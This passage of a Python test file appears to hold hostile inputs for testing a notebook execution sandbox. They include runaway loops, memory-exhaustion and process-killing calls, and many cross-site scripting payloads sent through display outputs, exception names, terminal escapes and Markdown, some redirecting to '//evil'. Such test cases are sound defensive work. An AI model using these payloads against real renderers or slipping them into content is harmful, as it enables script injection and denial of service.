    "every call a little under its limit": "import time\ndef tiny_double(x):\n    time.sleep(0.8)\n    return x",
    "a call that never ends": "def tiny_double(x):\n    while True:\n        pass",
    "a call that takes no interrupt": """
def tiny_double(x):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass""",
    "a call that eats memory": "def tiny_double(x):\n    return [bytearray(2**26) for _ in range(10**4)]",
    "a call that ends the process": "import os\ndef tiny_double(x):\n    os._exit(0)",
}

# ---- markup: see also test_markup.py

MARKUP = {
    "HTML output": "display({'text/html': '<script>alert(1)</script><img src=x onerror=alert(2)>'}, raw=True)",
    "JavaScript output": "display({'application/javascript': 'alert(1)', 'text/plain': 'x'}, raw=True)",
    "SVG output": "display({'image/svg+xml': '<svg onload=alert(1)><script>alert(2)</script></svg>'}, raw=True)",
    "Markdown output": "display({'text/markdown': '<img src=x onerror=alert(1)> [x](javascript:alert(2))'}, raw=True)",
    "LaTeX output": "display({'text/latex': '$\\\\href{javascript:alert(1)}{x}$<script>alert(2)</script>'}, raw=True)",
    "widget state output": "display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>alert(1)'}}, raw=True)",
    "picture that breaks out": "display({'image/png': 'x\\\" onerror=alert(1) a=\\\"'}, raw=True)",
    "picture's width": "display({'image/png': 'AAAA'}, metadata={'image/png': {'width': '1 onerror=alert(1)'}}, raw=True)",
    "stream": "print('<script>alert(1)</script>\\x1b]8;;javascript:alert(2)\\x07x\\x1b]8;;\\x07')",
    "exception's name and text": """
def tiny_double(x):
    raise type('<script>alert(1)</script>', (Exception,), {})('<img src=x onerror=alert(2)>')
E = type('<script>alert(3)</script>', (Exception,), {})
raise E('<script>alert(4)</script>')""",
    "isolated HTML": "display({'text/html': '<script>alert(1)</script>'}, metadata={'text/html': {'isolated': True}}, raw=True)",
    "file name of a picture": "display({'image/png': 'AAAA'}, metadata={'filenames': {'image/png': 'x onerror=alert(1)'}}, raw=True)",
}


def _write(*texts: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        cell(notebook, "title").source = texts[0]
        notebook.cells += [new_markdown_cell(text) for text in texts]

    return change


WRITTEN = (
    "<script>alert(1)</script> <IMG SRC=x onerror=alert(2)> <svg/onload=alert(3)> <iframe src=javascript:alert(4)>",
    "[a](javascript:alert(1)) [b](java&#115;cript:alert(2)) [c]( <javascript:alert(3)>) ![d](javascript:alert(4))",
    "[e]\n\n[e]: javascript:alert(1)\n\n<javascript:alert(2)> [f]:\n  javascript:alert(3)",
    "<details open ontoggle=alert(1)>x</details> <b onmouseover=alert(2)>y</b> <style>*{position:fixed}</style>",
    "$\\href{javascript:alert(1)}{x}$ $x<script>alert(2)</script>y$ \\begin{align}<img src=x onerror=alert(3)>\\end{align}",
    "`<script>alert(1)</script>`\n\n```\n</code></pre><script>alert(2)</script>\n```\n\n    <script>alert(3)</script>",
    "<!-- x --><meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil><form action=//evil>",
    '[x](https://a.b/"onmouseover=alert(1)) ![y](attachment:x"onerror=alert(2))',
)

ATTACKS: tuple[Attack, ...] = (
    *_many("kernel", KERNEL),
    *_many("patching", PATCHING),
    *_answers("objects", OBJECTS),
    *_probes("reading", READING),
    *_probes("files", FILES),
    *_probes("network", NETWORK),
    *_probes("privilege", PRIVILEGE),
    *_replies(REPLIES),
    *_many("protocol", SPOKEN),
    *(Attack(name, "conspiracy", first, then, earns) for name, (first, then, earns) in CONSPIRACY.items()),
    *NOTEBOOK,
    *_many("resources", RESOURCES, tight=True),
    *_answers("resources", SLOW, tight=True),
    *_many("markup", MARKUP),
    Attack("Markdown of one's own", "markup", change=_write(*WRITTEN)),
)
